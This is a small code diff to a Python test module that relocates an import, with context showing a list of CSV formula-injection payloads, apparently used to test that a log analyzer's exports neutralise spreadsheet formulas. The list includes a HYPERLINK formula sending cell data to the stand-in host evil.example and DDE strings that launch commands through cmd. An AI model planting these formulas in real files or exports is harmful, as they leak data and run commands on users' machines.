@@ -6,7 +6,9 @@ from __future__ import annotations
 
 import csv
 
-from hostile_corpus import GOOD_LOG, GOOD_PATH, Sandbox, assert_good_log_analyzed, json_report, run_cli, tar_bytes
+from hostile_corpus import GOOD_LOG, GOOD_PATH, Sandbox, assert_good_log_analyzed, json_report, run_cli
+
+from tests.intake.intake_fixtures import tar_bytes
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+1", "\uff1d1+1", "\uff20SUM(A1)"]
